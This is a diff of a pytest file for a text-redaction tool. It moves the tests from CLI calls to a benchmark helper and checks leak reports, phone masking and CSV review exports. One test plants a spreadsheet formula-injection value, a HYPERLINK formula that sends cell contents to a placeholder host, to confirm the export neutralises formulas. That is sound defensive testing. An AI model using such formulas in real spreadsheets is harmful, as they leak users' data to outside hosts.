@@ -8,18 +8,12 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from benchmark.chains import bench, command
 
-from summeter.cli.main import main
 from summeter.data.dataset import load, save
 from summeter.records import Judgment, Target
 
 PHONE = "01223 351241"
-
-
-def command(*arguments: str | Path) -> int:
-    with pytest.raises(SystemExit) as end:
-        main([str(argument) for argument in arguments])
-    return int(end.value.code or 0)
 
 
 def data(tmp_path: Path, text: str, **more: Any) -> Path:
@@ -29,14 +23,14 @@ def data(tmp_path: Path, text: str, **more: Any) -> Path:
     return tmp_path / "data"
 
 
-def redacted(tmp_path: Path, folder: Path, *more: str | Path) -> str:
-    assert command("bench", "redact", folder, "-o", tmp_path / "redact", *more) == 0
-    (document,) = load(tmp_path / "redact").documents.values()
+def redacted(tmp_path: Path, folder: Path, **settings: Any) -> str:
+    assert bench(tmp_path, {"redact": settings}, input=folder) == 0
+    (document,) = load(tmp_path / "out" / "redact").documents.values()
     return document.text
 
 
 def leaks(tmp_path: Path) -> list[tuple[str, str]]:
-    lines = (tmp_path / "redact" / "leaks.jsonl").read_text("utf-8").split("\n")
+    lines = (tmp_path / "out" / "redact" / "leaks.jsonl").read_text("utf-8").split("\n")
     return [(row["where"], row["kind"]) for row in map(json.loads, filter(None, lines))]
 
 
@@ -65,17 +59,19 @@ def test_names_that_hold_a_masked_number_are_leaks(tmp_path: Path) -> None:
         signature="human.rating", label="7781-AB",
     )  # fmt: skip
     save(given.with_judgments("people", [judgment]), folder, force=True)
-    redacted(tmp_path, folder, "--recognizer", "patterns")
+    redacted(tmp_path, folder, recognizer="patterns")
     found = [("id", "entity"), ("domain", "entity"), ("system", "entity"), ("category", "entity")]
     assert leaks(tmp_path) == [*found, ("aspect", "entity"), ("judge", "entity"), ("label", "entity")]
 
 
 def test_counts_of_words_are_no_leaks(tmp_path: Path) -> None:
     (tmp_path / "raw.txt").write_text(f"Ring {PHONE} about it.", "utf-8")
-    source = ("bench", "source", f"calls={tmp_path / 'raw.txt'}", "-o", tmp_path / "source", "--no-detect")
-    assert command(*source) == 0
-    assert load(tmp_path / "source").documents["calls/raw"].extra["words"] == 5
-    assert redacted(tmp_path, tmp_path / "source", "--recognizer", "patterns") == "Ring <PHONENUMBER_1> about it."
+    (tmp_path / "raw").mkdir()
+    (tmp_path / "raw.txt").rename(tmp_path / "raw" / "raw.txt")
+    assert bench(tmp_path / "raw", {"source": {"sources": {"calls": "raw.txt"}, "detect": False}}) == 0
+    source = tmp_path / "raw" / "out" / "source"
+    assert load(source).documents["calls/raw"].extra["words"] == 5
+    assert redacted(tmp_path, source, recognizer="patterns") == "Ring <PHONENUMBER_1> about it."
     assert leaks(tmp_path) == []
 
 
@@ -84,8 +80,8 @@ def test_the_table_for_a_person_holds_no_formula_and_is_read_back(tmp_path: Path
     text = f'=HYPERLINK("http://host/"&A1) is what {number} says.'
     folder = data(tmp_path, text, doc_id="=1+1")
     review = tmp_path / "review.csv"
-    given = ("bench", "redact", folder, "-o", tmp_path / "redact", "--recognizer", "patterns", "--review", review)
-    assert command(*given) == 130
+    settings = {"redact": {"recognizer": "patterns", "review": review}}
+    assert bench(tmp_path, settings, input=folder) == 130
     with review.open(encoding="utf-8", newline="") as handle:
         head, *rows = csv.reader(handle)
     assert [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
@@ -93,5 +89,5 @@ def test_the_table_for_a_person_holds_no_formula_and_is_read_back(tmp_path: Path
     decision = head.index("decision")
     with review.open("w", encoding="utf-8", newline="") as handle:
         csv.writer(handle).writerows([head, *([*row[:decision], "mask", *row[decision + 1 :]] for row in rows)])
-    assert command(*given) == 0
-    assert number not in load(tmp_path / "redact").documents["=1+1"].text
+    assert bench(tmp_path, settings, input=folder) == 0
+    assert number not in load(tmp_path / "out" / "redact").documents["=1+1"].text
